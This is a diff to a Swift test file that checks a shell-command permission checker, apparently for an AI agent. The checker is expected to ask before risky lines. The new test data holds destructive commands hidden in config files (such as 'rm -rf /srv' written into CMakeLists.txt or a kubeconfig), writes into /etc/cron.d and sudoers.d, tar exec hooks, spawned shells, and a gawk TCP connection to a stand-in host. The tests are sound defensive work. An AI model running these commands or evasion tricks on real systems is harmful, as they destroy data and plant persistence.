@@ -73,6 +73,77 @@ struct ShellWordTests {
     }
 
     @Test(
+        "asks before what files say that the session wrote, wherever a program reads them without being told",
+        arguments: [
+            "echo 'execute_process(COMMAND rm -rf /srv)' > CMakeLists.txt; cmake .",
+            "echo 'execute = rm -rf /srv' > ~/.rtorrent.rc; rtorrent", "echo -e 'x:\\n\\trm -rf /srv' > f; mytool -r f",
+            "echo 'rm -rf /srv' > /tmp/x; TOOL_DRIVER=/tmp/x mytool",
+            "echo 'rm -rf /srv' > /tmp/k; kubectl --kubeconfig=/tmp/k get po",
+        ])
+    func surroundings(line: String) {
+        for onHost in [false, true] {
+            #expect(verdict(line, onHost: onHost).decision == .ask, "\(line), on a host: \(onHost)")
+        }
+    }
+
+    @Test(
+        "asks before a program of which nothing is known writes where something runs later",
+        arguments: [
+            "mytool x y /etc/cron.d/x", "mytool x --junit-xml /etc/cron.d/x", "rlwrap -l /etc/profile.d/x.sh ls",
+            "mytool -f -n a ~/.bashrc", "gdb -nx -ex 'dump value /etc/cron.d/x \"D\"' -ex quit",
+            "sqlite3 /dev/null -cmd '.output /etc/cron.d/x' 'select 1'", "echo x > ~/.lessfilter",
+            "tar Pxf a.tar --xform s@.*@/etc/cron.d/x@", "mytool --sink=/etc/sudoers.d/x",
+        ])
+    func places(line: String) {
+        for onHost in [false, true] {
+            #expect(verdict(line, onHost: onHost).decision == .ask, "\(line), on a host: \(onHost)")
+        }
+    }
+
+    @Test(
+        "asks before what a line of the history or of a prompt hands to a shell, and before a hook that removes what it is given",
+        arguments: [
+            "mytool -r\n!rm -rf /srv", "!rm -rf /srv", "mytool --on-done=rm", "tar cf a b --checkpoint-action=exec=rm",
+            "mytool -D /tmp/x.so", "gawk 'BEGIN { s = \"/inet/tcp/0/e.example/1\"; print \"x\" |& s }'",
+            "mytool backup /srv https://e.example",
+        ])
+    func hooks(line: String) {
+        for onHost in [false, true] {
+            #expect(verdict(line, onHost: onHost).decision == .ask, "\(line), on a host: \(onHost)")
+        }
+    }
+
+    @Test(
+        "asks on a host before what is written outside of homes and temporary folders",
+        arguments: [
+            "echo x > /srv/www/index.html", "curl -o /opt/app/tool https://e.example/tool", "cp a /srv/www/",
+            "mv a /var/lib/app/a",
+            "wget -O /var/www/x https://e.example", "tee /opt/app/conf < a", "tar xf a.tar -C /srv",
+            "dd if=a of=/srv/disk.img",
+            "rsync -a build/ /var/www/site/",
+        ])
+    func hostPlaces(line: String) {
+        #expect(verdict(line, onHost: true).decision == .ask)
+        for place in ["/srv/www", "/opt/app", "/var/lib/app", "/var/www", "/srv"] where line.contains(place) {
+            for other in ["/tmp/x", "/home/me/x", "~/x", "x"] {
+                #expect(
+                    verdict(line.replacing(place, with: other), onHost: true).decision == .allow, "\(line): \(other)")
+            }
+        }
+        #expect(verdict("cp /srv/www/index.html .", onHost: true).decision == .allow)
+    }
+
+    @Test(
+        "asks on a host before a text in the language of a program that nothing is known of",
+        arguments: [
+            "mytool -e '(delete-all)'", "mytool -x 'system(\"x\")'", "mytool run 'os.system(\"x\")'",
+            "mytool -c /tmp/x",
+        ])
+    func languages(line: String) {
+        #expect(verdict(line, onHost: true).decision == .ask)
+    }
+
+    @Test(
         "asks on a host before a shell that another program opens",
         arguments: [
             "vim -c ':!/bin/sh'", "awk 'BEGIN {system(\"/bin/sh\")}'", "mytool --command=/bin/sh", "vi -c ':shell'",
@@ -103,12 +174,33 @@ struct ShellWordTests {
             "gh help pr create", "brew outdated", "dnf repoquery x", "snap find x", "pacman -Ss x",
             "systemctl is-failed x",
             "autoflake --remove-unused-variables x.py", "awk -F: '{print $1}' /etc/passwd", "tar -I 'zstd -T0' -cf a b",
-            "mytool --browser firefox", "dpkg -l", "killall --list", "systemctl get-default",
+            "mytool --browser firefox", "dpkg -l", "mytool -c /etc/passwd", "mytool --config /etc/ssh/sshd_config",
+            "tar czf etc.tgz /etc/ssh", "gdb -nx ./a.out", "echo hello > notes.txt; mytool notes.txt",
+            "strip -s lib/x.so",
+            "ack PermitRootLogin /etc/ssh", "mytool -e 5 x", "killall --list", "systemctl get-default",
         ])
     func harmless(line: String) {
         for onHost in [false, true] {
             let verdict = verdict(line, onHost: onHost)
             #expect(verdict.decision == .allow, "\(line): \(verdict.rule)")
+        }
+    }
+
+    @Test(
+        "tells what a manager of software is asked from what it changes",
+        arguments: [
+            ("pacman -Qi x", true), ("pacman -Ss x", true), ("pacman -Syu", false), ("yay -Rns x", false),
+            ("yay -Si x", true), ("rpm -qa", true), ("rpm -e x", false), ("rpm -ivh x.rpm", false),
+            ("dpkg --listfiles x", true),
+            ("dpkg -i x.deb", false), ("apt-get -s install x", true), ("apt install x", false),
+            ("apt list --installed", true),
+            ("brew services stop x", false), ("xbps-install -S x", false), ("flatpak remote-info o a", true),
+            ("dnf history undo 3", false), ("dnf history", true), ("snap remove x", false), ("nix-env -q", true),
+            ("nix-env -q -i x", false), ("add-apt-repository -r x", false), ("zypper se x", true),
+        ])
+    func managers(line: String, asksOnly: Bool) {
+        for onHost in [false, true] {
+            #expect((verdict(line, onHost: onHost).decision == .allow) == asksOnly, "\(line)")
         }
     }
 
